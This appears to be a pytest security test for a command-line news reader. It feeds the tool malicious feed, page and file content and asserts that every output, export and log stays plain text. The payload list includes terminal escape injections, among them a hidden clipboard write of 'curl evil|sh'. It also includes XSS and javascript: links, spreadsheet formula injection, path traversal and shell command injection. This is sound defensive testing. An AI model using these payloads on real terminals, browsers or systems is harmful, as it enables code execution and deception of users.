"""What outlets, banks, pages and files say, in every field of theirs, against every way out: it leaves as text.

`test_text_only` is about what somebody has written past the door; here it comes through it.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from lxml import html as lxml_html
from markdown_it import MarkdownIt

from careader import logs
from careader.settings import Paths
from careader.text.wordset import words
from tests.banks import KEYS
from tests.cli.conftest import Run
from tests.newsstand import Newsstand, Page, redirect

PAYLOADS = {
    "window title": "A\x1b]0;TAKEN\x07B",
    "link of the terminal": "A\x1b]8;;https://evil.example/\x1b\\\\press\x1b]8;;\x1b\\\\B",
    "clipboard": "A\x1b]52;c;Y3VybCBldmlsfHNo\x07B",
    "screen": "A\x1b[2J\x1b[H\x1b[31mB\x1b[6n",
    "eight bits": "A\x9b31m\x9d0;TAKEN\x9c\x90q\x9cB",
    "device control": "A\x1bP$q\x1b\\\\\x1b_x\x1b\\\\\x1b^x\x1b\\\\B",
    "bell and back": "A\x07\x08\x08\x7f\x0b\x0c\rB",
    "overrides": "A\u202edlrow\u202c\u2066x\u2069\u200e\u200f\u061cB",
    "nothing wide": "A\u200b\u2060\ufeff\u00ad\u180eB",
    "tags and lines": "A\U000e0041\U000e007f\u2028\u2029\x85B",
    "markdown": "![A](https://evil.example/a.png) [b](javascript:alert(1)) `c` **d** | e | f\n---\n# g",
    "link after a sign": "wow! <https://evil.example> ~~~ --- [x]: https://evil.example",
    "html": "</p><script>alert(1)</script><img src=x onerror=alert(1)><style>*{}</style>&lt;script&gt;",
    "markup of rich": "[bold red]A[/] [@click=app.quit]b[/] [link=https://evil.example]c[/]",
    "formula": '=HYPERLINK("https://evil.example";"A") +1 -1 @SUM(1)',
    "file names": "../../../etc/passwd CON NUL aux.txt C:\\\\x ~root $(touch x) `touch x` ; rm x",
    "format": "{0} %s %(x)s {title} \\\\N{BELL} \\\\x1b[2J",
}
SCRIPTS = (
    "javascript:alert(1)",
    "data:text/html,<script>x</script>",
    "vbscript:x",
    " javascript:x",
    "file:///x",
    "https://a.example/\x1b]0;TAKEN\x07",
    "https://a.example/)[x](javascript:x)",
    "//evil.example/x\u202e",
)
XML_TEXT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def in_xml(text: str) -> str:
    """Write a text as XML may have it: what it must not have as the reference that feeds write all the same."""
    return XML_TEXT.sub(lambda found: f"&#{ord(found[0])};", html.escape(text))


def item(number: int, text: str) -> str:
    bad, link = in_xml(text), in_xml(SCRIPTS[number % len(SCRIPTS)])
    body = (
        f'<p>{bad} <a href="{link}">{bad}</a> wow!<a href="https://a.example/x">y</a></p><h2>{bad}</h2>'
        f"<ul><li>{bad}</li></ul><blockquote>{bad}</blockquote><pre>```{bad}\n~~~</pre>"
        f'<figure><img src="{link}" alt="{bad}"><figcaption>{bad}</figcaption></figure><table><tr><td>{bad}</table>'
    )
    where = f"https://a.example/{number}" if number % 2 else link
    return (
        f"<item><title>{bad} number {number}</title><link>{where}</link><guid isPermaLink='false'>{bad}{number}</guid>"
        f"<author>{bad}</author><dc:creator>{bad}</dc:creator><category>{bad}</category><dc:language>{bad}</dc:language>"
        f"<description>{bad}</description><content:encoded><![CDATA[{body.replace(']]>', '')}]]></content:encoded>"
        f'<pubDate>{bad}</pubDate><source url="{link}">{bad}</source></item>'
    )


ALL = " ".join(PAYLOADS.values())


def feed() -> bytes:
    items = "".join(item(number, text) for number, text in enumerate(PAYLOADS.values()))
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{in_xml(ALL)}</title><description>{in_xml(ALL)}</description><language>{in_xml(ALL)[:99]}</language>"
        f"{items}</channel></rss>"
    ).encode("utf-8", "replace")


def json_feed() -> bytes:
    entries = [
        {"id": text, "url": SCRIPTS[number % len(SCRIPTS)], "title": f"{text} in JSON {number}", "summary": text,
         "content_html": f"<p>{text}</p>", "authors": [{"name": text}], "tags": [text], "language": text}
        for number, text in enumerate(PAYLOADS.values())
    ]  # fmt: skip
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": ALL, "items": entries}).encode()


LATIN = ALL.encode("latin-1", "ignore").decode("latin-1").replace("\n", " ").replace("\r", " ")
ANSWERS = {
    "reason": Page(status=503, reason=LATIN),
    "refusal": Page(ALL.encode(), "text/html", 403, reason=LATIN),
    "type": Page(b"x", LATIN[:200]),
    "away": redirect("https://127.0.0.1:1/" + LATIN, status=302),
    "script": redirect("javascript:" + LATIN, status=301),
    "wait": Page(status=429, headers={"Retry-After": LATIN}),
    "broken": Page(f"<rss><channel><title>{ALL}</titel>".encode()),
    "no-feed": Page(f"<title>{ALL}</title><p>{ALL}".encode(), "text/html"),
    "error": Page(json.dumps({"code": ALL, "message": ALL, "data": {"status": ALL}}).encode(), "application/json", 404),
}
WAYS = ("feed", "wordpress", "sitemap", "page", "telegram")


@pytest.fixture(scope="module")
def spoken() -> Iterator[Newsstand]:
    """A newsstand all of whose outlets and banks say nothing good."""
    with Newsstand() as stand:
        stand.put("/feed", Page(feed()))
        stand.put("/json", Page(json_feed(), "application/feed+json"))
        for name, answer in ANSWERS.items():
            stand.put(f"/{name}/", answer)
        for key in KEYS:
            body = json.dumps({"error": ALL, "message": ALL, "rates": [{"date": ALL, "rate": ALL, "quote": ALL}]})
            stand.put(f"/{key}/", Page((f"<x>{in_xml(ALL)}</x>" if key == "nbk" else body).encode(), status=200))
        yield stand


def settings(stand: Newsstand) -> str:
    quoted = json.dumps(ALL, ensure_ascii=True)
    rows = [
        f'[[outlet]]\nid = "{name}"\nname = {quoted}\nurl = "{stand.at(f"/{name}")}"\n' for name in ("feed", "json")
    ]
    for number, name in enumerate(ANSWERS):
        kind = WAYS[number % len(WAYS)]
        rows.append(
            f'[[outlet]]\nid = "{name}"\nselector = {quoted[:80]}"\n[[outlet.way]]\nkind = "{kind}"\n'
            f'url = "{stand.at(f"/{name}/")}"\n'
        )
    endpoints = "".join(f'{key} = "{stand.at(f"/{key}")}"\n' for key in KEYS)
    return "[outlets]\ndefaults = false\n[rates.endpoints]\n" + endpoints + "".join(rows)


def is_text(said: str) -> bool:
    """Say whether nothing in it is a command to a terminal, turns letters round or is not to be seen."""
    return not [c for c in said if c not in "\n\t\u200c\u200d" and unicodedata.category(c)[0] == "C"]


def texts_of(value: Any) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            for key, member in value.items():
                yield key
                yield from texts_of(member)
        case list():
            for member in value:
                yield from texts_of(member)


MADE = words("h1 h2 h3 p a ul li em code pre blockquote")
TAGS = MADE | words("html head meta title style body time")


def assert_page(text: str, tags: frozenset[str]) -> None:
    """Nothing but such tags, links to the web alone, nothing that loads or runs."""
    for element in lxml_html.document_fromstring(text).iter("*"):
        assert element.tag in tags | {"html", "body"}, (element.tag, lxml_html.tostring(element)[:300])
        assert set(element.attrib) <= {"class", "href", "rel", "charset", "name", "content", "http-equiv", "lang"}
        if "href" in element.attrib:
            assert re.match(r"https?://[^\s<>\"]+$", element.get("href")), element.get("href")


@pytest.fixture
def told(run: Run, paths: Paths, spoken: Newsstand, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What a refresh says of it all."""
    for scheme in ("http", "https", "all"):
        monkeypatch.delenv(f"{scheme}_proxy", raising=False)
        monkeypatch.delenv(f"{scheme}_proxy".upper(), raising=False)
    paths.settings.parent.mkdir(parents=True)
    paths.settings.write_text(settings(spoken))
    done = run("refresh")
    as_json = run("refresh", "--force", "--json")
    assert {one["id"]: one["new"] for one in json.loads(as_json.stdout)["outlets"]}.keys() >= {"feed", *ANSWERS}
    return [done.stdout, done.stderr, as_json.stdout, as_json.stderr]


def test_what_comes_through_the_door_leaves_as_text(run: Run, paths: Paths, told: list[str], tmp_path: Path) -> None:
    for said in told:
        assert is_text(said), ascii(said)
    listed = json.loads(run("list", "--json").stdout)
    assert len(listed) >= len(PAYLOADS), "they are here, and none is thrown away for what it holds"
    shown = [
        ["show", one["id"], *form] for one in listed[:: len(listed) // 12] for form in ([], ["--json"], ["--markdown"])
    ]
    ways_out = [
        ["list"], ["list", "--json"], ["list", "--articles", "--json"], ["outlets"], ["outlets", "list", "--json"],
        ["rates"], ["rates", "--json"], ["doctor"], ["doctor", "--json"], ["outlets", "check"], ["export"],
        *(["export", "--format", form] for form in ("json", "html", "opml")), *shown,
    ]  # fmt: skip
    run("mark", *(one["id"] for one in listed), "--star")
    for arguments in [*ways_out, ["export", "--starred"], ["export", "--starred", "--format", "json"]]:
        done = run(*arguments)
        assert done.exit_code in (0, 1), (arguments, done.stderr)
        assert done.stdout or done.stderr
        for said in (done.stdout, done.stderr):
            assert is_text(said), (arguments, ascii(said)[:3000])
        if "json" in arguments or "--json" in arguments:
            for text in texts_of(json.loads(done.stdout)):
                assert is_text(text), (arguments, ascii(text))
        if "opml" in arguments:
            for outline in ET.fromstring(done.stdout).iter("outline"):
                assert all(map(is_text, outline.attrib.values()))
        elif "html" in arguments:
            assert_page(done.stdout, TAGS)
        elif "--markdown" in arguments or arguments in (["export"], ["export", "--starred"]):
            rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(done.stdout)
            assert_page(rendered or "<p></p>", MADE)
    logs.stop()
    for file in (file for folder in (paths.data, paths.cache, paths.log.parent) for file in folder.rglob("*")):
        assert re.fullmatch(r"[A-Za-z0-9._-]+", file.name), file
        if file.suffix == ".log":
            assert is_text(file.read_text()), ascii(file.read_text())


@pytest.mark.parametrize("name", PAYLOADS)
def test_what_is_imported_or_added_leaves_as_text(
    run: Run, paths: Paths, spoken: Newsstand, tmp_path: Path, name: str
) -> None:
    text = PAYLOADS[name]
    bad = in_xml(text)
    files = {
        "list.opml": f'<opml version="2.0"><head><title>{bad}</title></head><body><outline text="{bad}">'
        f'<outline type="rss" text="{bad}" title="{bad}" xmlUrl="https://a.example/f"/>'
        f'<outline type="rss" text="x" xmlUrl="{in_xml(SCRIPTS[0])}"/><outline text="y" xmlUrl="{bad}"/>'
        "</outline></body></opml>",
        "saved.xml": f"<rss version='2.0'><channel><title>{bad}</title>{item(1, text)}</channel></rss>".replace(
            "<rss ", "<rss xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:content='x' "
        ),
        "captured.txt": f"{text}\nBy {text}\n\n12 November 2026\n\n{text} " + "Words of a story that goes on. " * 9,
        "page.html": f"<html><title>{text}</title><article><h1>{text}</h1><p>{text} " + "And more of it. " * 40,
    }
    for file, content in files.items():
        (tmp_path / file).write_text(content, encoding="utf-8", errors="replace")
    added = spoken.put("/added", Page(f"<title>{text}</title><a href='/x'>{text}</a>".encode(), "text/html"))
    commands = [
        ["import", *(str(tmp_path / file) for file in files)],
        ["import", str(tmp_path / "list.opml"), "--json"],
    ]
    for arguments in [*commands, ["outlets", "add", added], ["outlets"], ["list"], ["list", "--json"], ["export"]]:
        done = run(*arguments)
        assert is_text(done.stdout), (arguments, ascii(done.stdout))
        assert is_text(done.stderr), (arguments, ascii(done.stderr))
    if paths.settings.exists():
        assert is_text(paths.settings.read_text().replace("\r", ""))
